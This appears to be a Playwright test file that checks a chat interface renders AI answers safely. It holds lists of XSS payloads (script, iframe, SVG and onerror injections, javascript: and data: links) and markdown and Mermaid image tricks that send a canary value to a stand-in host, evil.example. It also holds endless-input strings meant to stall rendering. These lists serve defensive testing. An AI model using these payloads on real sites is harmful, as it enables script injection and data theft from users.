"""Answers that attack the reader: nothing of them runs, nothing leaves, the text is shown as text."""

from __future__ import annotations

import time
from collections.abc import AsyncIterator

import pytest
import pytest_asyncio
from playwright.async_api import expect

from tests.corpus import COLLECTIONS, hostile, needs_hostile
from tests.e2e.answers import AnswerPage

LITERAL = [
    "<script async src=//evil.example/x.js></script>",
    '<iframe srcdoc="<script>parent.hits.push(1)</script>"></iframe>',
    "<img src=x onerror=hits.push(1)>",
    "[a](javascript:hits.push(1))",
    "[a](data:text/html,<script>hits.push(1)</script>)",
    "[a](vbscript:hits.push(1))",
    "[a](file:///etc/passwd)",
    "<svg><script>hits.push(1)</script></svg>",
    "<svg onload=hits.push(1)>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<link rel=stylesheet href=//evil.example/x.css precedence=x>",
    "<base href=//evil.example>",
    "<form action=//evil.example><button>Go</button></form>",
    "<style>@import '//evil.example/x.css'; body { display: none }</style>",
    "<details open ontoggle=hits.push(1)>",
    "<math><mi xlink:href=javascript:hits.push(1)>x</mi></math>",
    "![a](javascript:hits.push(1))",
    "![a](data:image/svg+xml,<svg onload=hits.push(1)>)",
]

IMAGES = [
    "![x](https://evil.example/a.png?d=CANARY)",
    "![x][ref]\n\n[ref]: https://evil.example/b.png?d=CANARY",
    "![x](//evil.example/c.png?d=CANARY)",
    "[![x](https://evil.example/d.png?d=CANARY)](https://evil.example/?d=CANARY)",
    "https://evil.example/?d=CANARY and www.evil.example/CANARY and <https://evil.example/CANARY>",
    "| a |\n|---|\n| ![x](https://evil.example/e.png?d=CANARY) |",
    "- ![x](https://evil.example/f.png?d=CANARY)",
    "note[^1]\n\n[^1]: ![x](https://evil.example/g.png?d=CANARY)",
    "$\\includegraphics{https://evil.example/h.png}$ and $\\href{javascript:hits.push(1)}{x}$",
    "$$\\htmlData{x=CANARY}{x} \\htmlStyle{background:url(https://evil.example/i.png)}{x} \\url{https://evil.example}$$",
]

DIAGRAMS = [
    'graph TD\n A[x] --> B\n click A href "javascript:hits.push(1)"',
    "graph TD\n A[x] --> B\n click A call hits.push(1)",
    'graph TD\n A["<img src=x onerror=hits.push(1)>"] --> B',
    'graph TD\n A["<script>hits.push(1)</script>"] --> B',
    'graph TD\n A@{ img: "https://evil.example/j.png?d=CANARY", label: "x", w: 60, h: 60 } --> B',
    "graph TD\n A --> B\n style A fill:url(https://evil.example/k.png?d=CANARY)",
    'graph TD\n A --> B\n classDef x background-image:url("https://evil.example/l.png")\n class A x',
    '%%{init: {"securityLevel": "loose", "themeCSS": "@import url(https://evil.example/m.css); .node { fill: red }"}}%%\ngraph TD\n A --> B',
    '%%{init: {"flowchart": {"htmlLabels": true}, "htmlLabels": true}}%%\ngraph TD\n A["<iframe srcdoc=x>"] --> B',
    "---\nconfig:\n  securityLevel: loose\n  themeCSS: '@import url(https://evil.example/n.css);'\n---\ngraph TD\n A --> B",
    "sequenceDiagram\n participant A\n link A: Go @ javascript:hits.push(1)\n A->>B: <img src=x onerror=hits.push(1)>",
    "graph TD\n A --> B\n style A fill:u\\72l(https://evil.example/o.png)",
]

ENDLESS = {
    "brackets": "[" * 100_000,
    "parentheses": "(" * 100_000,
    "stars": "*" * 100_000,
    "backticks": "`" * 100_000,
    "backticks with text": "a`b``c```" * 10_000,
    "underscores": "_a" * 50_000,
    "star words": "*a **b " * 15_000,
    "links": "[a](" * 25_000,
    "images": "![" * 50_000,
    "angle brackets": "<a " * 30_000,
    "quotes": "> " * 50_000,
    "bullets": "- " * 50_000,
    "deep list": "".join(f"{'  ' * depth}- a\n" for depth in range(300)),
    "deep quotes": "".join(f"{'>' * depth} a\n" for depth in range(300)),
    "table": "|" + "a|" * 2_000 + "\n|" + "-|" * 2_000 + "\n" + ("|" + "b|" * 50 + "\n") * 200,
    "dollars": "$" * 100_000,
    "open math": "\\(" * 50_000,
    "one word": "a" * 390_000,
    "mail": "a@" * 50_000,
    "entities": "&#" * 50_000,
    "footnotes": "[^a]" * 25_000,
    "definitions": "".join(f"[{at}]: https://example.com\n" for at in range(3_000)),
    "math": "$$\n" + "\\def\\a{\\a\\a}\\a" * 100 + "\n$$",
}


@pytest_asyncio.fixture(loop_scope="session")
async def answers(answer_tab: AnswerPage) -> AsyncIterator[AnswerPage]:
    await answer_tab.begin()
    yield answer_tab
    assert await answer_tab.hits() == []
    assert answer_tab.foreign == []


class TestScripts:
    @pytest.mark.parametrize("text", LITERAL)
    async def test_are_shown_as_text(self, answers: AnswerPage, text: str) -> None:
        body = await answers.show(text)
        await expect(body).to_contain_text(text)
        assert await body.locator("script, iframe, svg, img, meta, link, base, form, style, details, a").count() == 0
        assert answers.errors == []

    @needs_hostile
    @pytest.mark.parametrize("source", COLLECTIONS)
    @pytest.mark.parametrize("shape", ["{}", "- {}", "| {} |\n|---|\n| {} |"])
    async def test_collections_do_nothing(self, answers: AnswerPage, source: str, shape: str) -> None:
        texts = hostile(source)
        for group in (texts[at : at + 100] for at in range(0, len(texts), 100)):
            body = await answers.show("\n\n".join(shape.replace("{}", text) for text in group))
            await expect(body).not_to_be_empty()
            assert await answers.page.locator(".md :is(script, iframe, object, embed, meta, link, base, form, style)").count() == 0
            assert await answers.page.evaluate("document.querySelectorAll('.md [onerror], .md [onload], .md [style*=url]').length") == 0


class TestPictures:
    async def test_load_nothing_by_themselves(self, answers: AnswerPage) -> None:
        body = await answers.show("\n\n".join(IMAGES))
        await expect(body.get_by_test_id("remote-image")).to_have_count(6)
        await answers.page.wait_for_timeout(500)
        assert await body.locator("img").count() == 0

    async def test_come_from_our_own_server_after_a_click(self, answers: AnswerPage) -> None:
        body = await answers.show("![A cat](https://pictures.example/cat.png)")
        async with answers.page.expect_request("**/api/v1/remote-image?url=https%3A%2F%2Fpictures.example%2Fcat.png"):
            await body.get_by_role("button", name="Load image from pictures.example").click()


class TestDiagrams:
    @pytest.mark.parametrize("source", DIAGRAMS)
    async def test_run_and_load_nothing(self, answers: AnswerPage, source: str) -> None:
        body = await answers.show(f"```mermaid\n{source}\n```\n\nAfter it.")
        drawn = body.locator("[data-testid=diagram], .msg-note")
        await expect(drawn).to_have_count(1, timeout=20_000)
        assert await answers.page.locator(".md svg a, .md foreignObject, body > svg").count() == 0

    @needs_hostile
    async def test_with_labels_from_collections_do_nothing(self, answers: AnswerPage) -> None:
        labels = [text.replace('"', "'") for source in ("DOMPurify", "MarioXSSVectors", "IntrudersXSS") for text in hostile(source)[::12]]
        body = await answers.show("\n\n".join(f'```mermaid\ngraph TD\n A["{label}"] --> B\n```' for label in labels))
        await expect(body.locator("[data-testid=diagram], .msg-note")).to_have_count(len(labels), timeout=60_000)

    async def test_that_are_no_diagrams_show_their_source(self, answers: AnswerPage) -> None:
        body = await answers.show("```mermaid\nthis is -- no [diagram\n```")
        await expect(body).to_contain_text("This diagram cannot be drawn")
        await expect(body).to_contain_text("this is -- no [diagram")


class TestLinks:
    async def test_show_where_they_go(self, answers: AnswerPage) -> None:
        body = await answers.show("[https://bank.example](https://evil.example/login) and [docs](https://docs.example/a)")
        first, second = body.locator("a").nth(0), body.locator("a").nth(1)
        assert await first.get_attribute("title") == "https://evil.example/login"
        assert await first.get_attribute("rel") == "noopener noreferrer nofollow ugc"
        assert await second.get_attribute("target") == "_blank"
        await expect(body).to_have_text("https://bank.exampleevil.example and docsdocs.example")


class TestEndlessInput:
    @pytest.mark.parametrize("name", ENDLESS)
    async def test_is_shown_within_two_seconds(self, answers: AnswerPage, name: str) -> None:
        chat_id, answer_id = await answers.answered(ENDLESS[name])
        await answers.home()
        await expect(answers.row(chat_id)).to_be_visible()
        started = time.monotonic()
        await expect(await answers.open_answer(chat_id, answer_id)).not_to_be_empty()
        assert time.monotonic() - started < 2, name
